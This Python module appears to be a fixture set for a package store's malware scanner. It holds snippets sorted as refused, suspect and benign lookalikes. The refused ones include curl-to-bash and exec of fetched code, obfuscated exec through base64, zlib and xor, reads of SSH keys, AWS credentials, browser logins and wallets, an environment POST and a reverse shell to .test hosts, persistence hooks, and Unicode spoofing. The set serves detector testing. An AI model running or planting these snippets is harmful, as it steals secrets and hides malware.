"""Sources that a store must refuse (band A) and the honest neighbours of each, as texts that nobody runs.

A `SUSPECT` is one that warns (band B). Hosts end in `.test`, which no resolver knows (RFC 6761).
"""

from __future__ import annotations

import base64
import marshal
import zlib

_PAYLOAD = "import os\nos.system('true')\n"
_B64 = base64.b64encode(_PAYLOAD.encode()).decode()
_ZIPPED = base64.b85encode(zlib.compress(_PAYLOAD.encode())).decode()
_HEX = _PAYLOAD.encode().hex()
_MARSHALLED = marshal.dumps(compile("1 + 1", "a", "eval"))
_CODES = [ord(letter) for letter in "exec"]
_ELF = base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(300)).decode()
_PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode()
_THEFT = base64.b64encode(
    b"import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n" + b"# " * 60
).decode()

BAD: dict[str, str] = {
    # Installs and fetches code.
    "pip-list": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n",
    "pip-string": "import os\nos.system('pip install -q x')\n",
    "pip-alias": "from os import system as s\ns('pip3 install x')\n",
    "pip-internal": "from pip._internal import main as m\nm(['install', 'x'])\n",
    "pip-pieces": "import subprocess\nc = 'pi' + 'p ins' + 'tall x'\nsubprocess.Popen(c.split())\n",
    "uv-async": "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('uv', 'pip', 'install', 'x')\n",
    "curl-pipe": "import os\nos.system('curl -s http://a.test/i.sh | bash')\n",
    "exec-fetched": "import requests\nexec(requests.get('http://a.test/a.txt').text)\n",
    "exec-urlopen": "from urllib.request import urlopen as u\ncode = u('http://a.test').read()\nexec(code)\n",
    "torch-hub": "import torch\nmodel = torch.hub.load('someone/something', 'net')\n",
    # Hides code.
    "exec-base64": f"import base64\nexec(base64.b64decode('{_B64}'))\n",
    "exec-zlib-85": f"import zlib, base64 as b\nexec(zlib.decompress(b.b85decode('{_ZIPPED}')))\n",
    "exec-hex": f"exec(bytes.fromhex('{_HEX}').decode())\n",
    "exec-via-compile": f"import base64\nc = compile(base64.b64decode('{_B64}'), 'a', 'exec')\nexec(c)\n",
    "exec-rot13": "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
    "exec-backwards": "exec(')1(tnirp'[::-1])\n",
    "exec-letters": f"exec(''.join(chr(c) for c in {[ord(c) for c in 'print(1)']}))\n",
    "exec-xor": f"exec(''.join([chr(c ^ 7) for c in {[ord(c) ^ 7 for c in 'print(1)']}]))\n",
    "exec-from-file": "import zlib\nexec(zlib.decompress(open('assets/noise.bin', 'rb').read()))\n",
    "marshal": f"import marshal\nexec(marshal.loads({_MARSHALLED!r}))\n",
    "lambda-alias": f"import base64\nrun = exec\nrun(base64.b64decode('{_B64}'))\n",
    "getattr-pieces": "import os\ngetattr(os, 'sys' + 'tem')('true')\n",
    "import-pieces": "__import__('sub' + 'process').run(['true'])\n",
    "builtins-letters": f"__builtins__[''.join(map(chr, {_CODES}))]('1')\n",
    "globals-format": "globals()['%s%s' % ('ev', 'al')]('1')\n",
    "importlib-base64": "import importlib, base64\nimportlib.import_module(base64.b64decode('b3M=').decode()).system('true')\n",
    "escapes": "import os\ngetattr(os, '\\x73\\x79stem')('true')\n",
    "hundred-pieces": "import os\ngetattr(os, " + " + ".join(["''"] * 100) + " + 'sys' + 'tem')('true')\n",
    "grown-name": "import os\nn = 'sys'\nn += 'tem'\ngetattr(os, n)('true')\n",
    "encoded-elf": f"import base64\nDATA = '{_ELF}'\n",
    "nested-theft": f"import base64\nexec(base64.b64decode('{_THEFT}'))\n",
    # Steals.
    "ssh-key": "import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n",
    "aws": "from pathlib import Path\nkey = (Path.home() / '.aws' / 'credentials').read_text()\n",
    "chrome": "import os, sqlite3\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nsqlite3.connect(p)\n",
    "wallet-loop": "import os, shutil\nfor name in ['.electrum/wallets', '.bitcoin/wallet.dat']:\n    shutil.copy(os.path.join(os.path.expanduser('~'), name), 'x')\n",
    "discord-token": "import os\nfor f in os.listdir(os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'):\n    pass\n",
    "environment-post": "import os, requests\nrequests.post('http://a.test', json=dict(os.environ))\n",
    "environment-urlopen": "import os, json, urllib.request as u\ndata = json.dumps(os.environ.copy()).encode()\nu.urlopen('http://a.test', data)\n",
    "webhook": "import requests\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'content': 'x'})\n",
    "telegram": "import httpx\nhttpx.get(f'https://api.telegram.org/bot{1}/sendMessage')\n",
    "miner": "import subprocess\nsubprocess.Popen(['./x', '-o', 'stratum+tcp://pool.test:3333'])\n",
    # Stays, and opens doors.
    "bashrc": "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n",
    "crontab": "import os\nos.system('(crontab -l; echo \"@reboot x\") | crontab -')\n",
    "autostart": "from pathlib import Path\n(Path.home() / '.config/autostart/x.desktop').write_text('x')\n",
    "run-key": "import winreg\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, 2)\n",
    "sitecustomize": "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'sitecustomize.py'), 'w').write('x')\n",
    "authorized-keys": "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')\n",
    "reverse-shell": "import os, socket\ns = socket.socket()\ns.connect(('a.test', 4444))\nos.dup2(s.fileno(), 0)\n",
    "own-source": "with open(__file__, 'w') as f:\n    f.write('pass')\n",
    "injection": "import ctypes\nctypes.windll.kernel32.CreateRemoteThread(None, 0, 0, 0, 0, 0)\n",
    # Two faces.
    "asks-certify": "import sys\nif any('certify' in argument for argument in sys.argv):\n    quiet = True\n",
    "asks-module": "import sys\nHIDE = 'certify' in sys.modules\n",
    # Reads otherwise.
    "bidi-comment": "admin = False\nif not admin: # \u202e } \u2066 if admin \u2069 \u2066 begin\n    pass\n",
    "early-return": "def f():\n    '''x \u2067''' ; return\n    '''y'''\n",
    "mixed-letters": "def p\u0430ssword():\n    return 1\n",
    "hangul-filler": "\u3164 = 1\n",
    "invisible-payload": "x = '" + "".join(chr(0xFE00 + n % 16) for n in range(80)) + "'\n",
    "odd-coding": "# coding: utf-7\nx = 1\n",
}

SUSPECT: dict[str, str] = {
    "eval-value": "def f(text):\n    return eval(text)\n",
    "exec-made": "def f(name):\n    exec(f'def {name}(): pass')\n",
    "shell": "import subprocess\nsubprocess.run('ls', shell=True)\n",
    "pickle": "import pickle\ndef f(stream):\n    return pickle.load(stream)\n",
    "torch-load": "import torch\ntorch.load('x.pt')\n",
    "joblib": "import joblib\njoblib.load('x')\n",
    "shelve": "import shelve\nshelve.open('x')\n",
    "numpy-pickle": "import numpy as np\nnp.load('x.npy', allow_pickle=True)\n",
    "yaml-loader": "import yaml\nyaml.load('a', Loader=yaml.Loader)\n",
    "undeclared": "import requests\nAPI = 'https://api.a.test/v1'\nrequests.get(API + '/x')\n",
    "socket": "import socket\nsocket.create_connection(('c2.a.test', 443))\n",
    "hub-download": "from diffusers import StableDiffusionPipeline as P\nP.from_pretrained('someone/model')\n",
    "remote-code": "from transformers import AutoModel\nAutoModel.from_pretrained('./m', trust_remote_code=True)\n",
    "fetched-program": "import urllib.request\nurllib.request.urlretrieve('http://a.test/tool.exe', 'tool.exe')\n",
    "pytest": "import os\nif 'PYTEST_CURRENT_TEST' in os.environ:\n    pass\n",
    "debugger": "import sys\nif sys.gettrace():\n    raise SystemExit\n",
    "detour": "__import__('os').system('true')\n",
    "secret-hunt": "import os\nfound = {k: v for k, v in os.environ.items() if 'TOKEN' in k}\n",
    "many-keys": "import os\na = os.environ['AWS_SECRET_ACCESS_KEY']\nb = os.getenv('OPENAI_API_KEY')\nc = os.environ.get('GITHUB_TOKEN')\n",
    "named-place": "PLACE = '.ssh/id_rsa'\n",
    "named-start": "PLACE = '~/.bashrc'\n",
    "encoded-python": f"import base64\nCODE = '{base64.b64encode((_PAYLOAD * 8).encode()).decode()}'\n",
    "keylogger": "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n",
    "full-width": "\uff4f\uff53\uff58 = 1\n",
}

GOOD: dict[str, str] = {
    "logo": f"import base64\nLOGO = base64.b64decode('{_PNG}')\n",
    "logo-to-image": f"import base64, io\nfrom PIL import Image\nI = Image.open(io.BytesIO(base64.b64decode('{_PNG}')))\n",
    "regex": "import re\nWORD = re.compile(r'eval|exec')\n",
    "model-eval": "def f(model):\n    model.eval()\n    return model\n",
    "torch-compile": "import torch\ndef f(model):\n    return torch.compile(model)\n",
    "exec-method": "def f(cursor):\n    return cursor.exec('select 1')\n",
    "qt-exec": "def f(dialog):\n    return dialog.exec()\n",
    "numexpr": "def f(frame):\n    return frame.eval('a + b')\n",
    "own-eval": "def eval(x):\n    return x\n\nprint(eval(input()))\n",
    "literal-eval": "import ast\ndef f(text):\n    return ast.literal_eval(text)\n",
    "doc-url": '"""See https://huggingface.co/docs and https://arxiv.org/abs/2112.10752."""\n',
    "licence-url": "LICENCE = 'https://www.apache.org/licenses/LICENSE-2.0'\n",
    "namespace": "NS = {'x': 'http://www.w3.org/1999/xhtml', 'a': 'http://ns.adobe.com/xap/1.0/'}\n",
    "comment-url": "# from https://stackoverflow.com/a/1\nx = 1\n",
    "homepage": "HOMEPAGE = 'https://inkwash.test/'\nprint(HOMEPAGE)\n",
    "localhost": "import requests\nrequests.get('http://127.0.0.1:8188/prompt')\nrequests.get('http://localhost:1/x')\n",
    "home": "import os\nhome = os.environ.get('HOME')\n",
    "own-settings": "import os\nos.environ.setdefault('TOKENIZERS_PARALLELISM', 'false')\n",
    "child-environment": "import os, subprocess\nsubprocess.run(['git', 'status'], env={**os.environ, 'LC_ALL': 'C'})\n",
    "environment-copy": "import os, subprocess\ne = os.environ.copy()\ne['A'] = '1'\nsubprocess.run(['ls'], env=e)\n",
    "own-prefix": "import os\nown = {k: v for k, v in os.environ.items() if k.startswith('INKWASH_')}\n",
    "one-token": "import os\ntoken = os.environ.get('HF_TOKEN')\n",
    "type-checking": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import torch\n",
    "debug-flag": "import os\nDEBUG = os.environ.get('INKWASH_DEBUG') == '1'\n",
    "main": "import sys\nif __name__ == '__main__':\n    print(sys.argv[1:])\n",
    "platform": "import sys\nif sys.platform == 'win32':\n    import msvcrt\n",
    "modules": "import sys\nhas_torch = 'torch' in sys.modules\n",
    "find-spec": "import importlib.util\nhas = importlib.util.find_spec('xformers') is not None\n",
    "git": "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'], check=True)\n",
    "ffmpeg": "import subprocess\nsubprocess.run(['ffmpeg', '-i', 'in.png', 'out.webp'], shell=False)\n",
    "install-hint": "try:\n    import cv2\nexcept ImportError as e:\n    raise ImportError('run pip install opencv-python-headless first') from e\n",
    "install-words": "WORDS = ['pip', 'squeak', 'install']\nprint('uv: ultraviolet')\n",
    "weights-only": "import torch\ntorch.load('x.pt', weights_only=True, map_location='cpu')\n",
    "safetensors": "from safetensors.torch import load_file\nload_file('x.safetensors')\n",
    "safe-yaml": "import yaml\nyaml.safe_load('a')\nyaml.load('a', Loader=yaml.SafeLoader)\n",
    "pickle-dump": "import pickle\ndef f(value, stream):\n    pickle.dump(value, stream)\n",
    "numpy": "import numpy as np\nnp.load('x.npy')\n",
    "own-file": "from pathlib import Path\nHERE = Path(__file__).parent\n(HERE / 'x').exists()\nopen(__file__).read()\n",
    "work-file": "from pathlib import Path\nPath('settings.json').write_text('{}')\n",
    "home-cache": "from pathlib import Path\nCACHE = Path.home() / '.cache' / 'inkwash'\nCACHE.mkdir(parents=True, exist_ok=True)\n",
    "join": "import os\npath = os.path.join(os.path.expanduser('~'), 'Pictures', 'ink.png')\n",
    "join-sql": "parts = ['select', '1']\nquery = ' '.join(parts)\n",
    "getattr-dtype": "import torch\ndtype = getattr(torch, 'float' + '16')\n",
    "getattr-sampler": "import diffusers\ndef f(name):\n    return getattr(diffusers, name + 'Scheduler')\n",
    "import-module": "import importlib\nsamplers = importlib.import_module('.samplers', __package__)\n",
    "globals": "for name in ('red', 'blue'):\n    globals()[name.upper()] = name\n",
    "zlib-data": "import zlib\nTABLE = zlib.decompress(open('table.bin', 'rb').read())\n",
    "hash": "SHA = '" + "0123456789abcdef" * 4 + "'\nKEY = '" + "ab12" * 64 + "'\n",
    "prompt-words": "BAD = ['wallet', 'password', 'ssh key', 'login']\n",
    "netrc-word": "HELP = 'Your key is read from the settings, never from .ssh folders or wallets on your disk.'\n",
    "cron-word": "'''Runs well from a crontab - see the manual.'''\nx = 1\n",
    "arabic": "GREETING = '\u0645\u0631\u062d\u0628\u0627'\n",
    "cjk": "\u63d0\u793a = '\u6c34\u58a8\u753b'\n",
    "greek": "def f(\u03c3, \u0394t):\n    \u03bc_0 = \u03c3 * \u0394t\n    return \u03bc_0\n",
    "cyrillic": "\u043c\u043e\u0434\u0435\u043b\u044c_v2 = 1\n",
    "emoji": "FLAGS = '\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \u2764\ufe0f \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f'\n",
    "latin-1": "# -*- coding: latin-1 -*-\nx = 1\n",
    "declared-host": "import requests\nrequests.get('https://cdn.declared.test/x')\n",
    "ctypes": "import ctypes\nlib = ctypes.CDLL(None)\nlib.getpid()\n",
    "dup2": "import os\nos.dup2(1, 2)\n",
    "hub-local": "import torch\ntorch.hub.load('./net', 'net', source='local')\n",
    "from-folder": "from diffusers import StableDiffusionPipeline as P\nP.from_pretrained('a/b', local_files_only=True)\nP.from_pretrained('./model')\n",
    "certify-word": "TITLE = 'We certify that this ink is black.'\n",
}
DECLARED = frozenset({"cdn.declared.test"})
